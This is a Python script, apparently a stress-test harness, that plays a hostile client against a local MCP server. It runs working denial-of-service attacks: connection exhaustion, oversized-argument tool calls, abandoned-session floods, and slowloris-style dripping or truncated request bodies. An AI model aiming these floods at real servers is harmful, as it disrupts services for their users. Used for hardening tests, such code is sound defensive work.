"""Somebody at 127.0.0.2 who means no good: `python attackers.py KIND PORT`, until it is killed.

idle       1,100 connections that say nothing, opened anew as they are closed
arguments  calls of 150,000 unknown arguments, and of as many as a call may have, four at a time
sessions   10,000 handshakes that nobody comes back to, two at a time
bodies     60 bodies whose last byte never comes, 500 heads and bodies that drip, 90 a second that break off
"""

import asyncio
import json
import sys
from collections.abc import Awaitable, Callable
from itertools import count

THEM = "127.0.0.2"
HEAD = (
    "POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: application/json\r\n"
    "Accept: application/json, text/event-stream\r\n"
)
MODERN = "MCP-Protocol-Version: 2026-07-28\r\nMcp-Method: tools/call\r\nMcp-Name: list_conversations\r\n"
LIMIT = 256 * 1024
SESSIONS = 10_000
PAUSE = 0.5
"""Seconds until somebody whom nobody lets in, or keeps, tries once more."""


class Attack:
    """What is said again and again to one port."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._head = HEAD.format(port=port)

    async def idle(self) -> None:
        await self._together(1100, self._held, b"")

    async def arguments(self) -> None:
        whole = self._call(150_000)
        fitting = self._call(15_000)
        await asyncio.gather(
            *(self._again(self._answered, whole) for _ in range(2)),
            *(self._again(self._answered, fitting) for _ in range(2)),
        )

    async def sessions(self) -> None:
        params = {
            "protocolVersion": "2025-06-18",
            "capabilities": {},
            "clientInfo": {"name": "nobody", "version": "1"},
        }
        body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": params})
        said = f"{self._head}Content-Length: {len(body)}\r\n\r\n{body}".encode()
        left = count()

        async def opening() -> None:
            while next(left) < SESSIONS:
                await self._answered(said)

        await asyncio.gather(*(opening() for _ in range(2)))
        await asyncio.Event().wait()

    async def bodies(self) -> None:
        most = f"{self._head}{MODERN}Content-Length: {LIMIT}\r\n\r\n".encode() + b" " * (LIMIT - 1)
        chunked = f"{self._head}{MODERN}Transfer-Encoding: chunked\r\n\r\n3fffe\r\n".encode() + b" " * 0x3FFFD
        await asyncio.gather(
            self._together(30, self._held, most),
            self._together(30, self._held, chunked),
            self._together(250, self._dripping, self._head.encode()),
            self._together(250, self._dripping, most),
            self._again(self._broken_off, most),
        )

    def _call(self, arguments: int) -> bytes:
        unknown = {f"k{number}": number for number in range(arguments)}
        params = {"name": "list_conversations", "arguments": unknown, "_meta": {}}
        body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params})
        return f"{self._head}{MODERN}Content-Length: {len(body)}\r\n\r\n{body}".encode()

    async def _together(self, many: int, act: Callable[[bytes], Awaitable[None]], said: bytes) -> None:
        await asyncio.gather(*(self._again(act, said) for _ in range(many)))

    async def _again(self, act: Callable[[bytes], Awaitable[None]], said: bytes) -> None:
        while True:
            try:
                await act(said)
            except (OSError, EOFError):
                await asyncio.sleep(PAUSE)

    async def _held(self, said: bytes) -> None:
        reader, writer = await self._connected()
        writer.write(said)
        await reader.read()
        writer.close()
        await asyncio.sleep(PAUSE)

    async def _answered(self, said: bytes) -> None:
        reader, writer = await self._connected()
        writer.write(said)
        await reader.read(4096)
        writer.transport.abort()

    async def _dripping(self, said: bytes) -> None:
        _, writer = await self._connected()
        for place in range(len(said)):
            writer.write(said[place : place + 1])
            await writer.drain()
            await asyncio.sleep(0.5)

    async def _broken_off(self, said: bytes) -> None:
        _, writer = await self._connected()
        writer.write(said[: len(said) // 2])
        await writer.drain()
        writer.transport.abort()
        await asyncio.sleep(1 / 90)

    async def _connected(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection("127.0.0.1", self._port, local_addr=(THEM, 0))


async def main(kind: str, port: int) -> None:
    await getattr(Attack(port), kind)()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
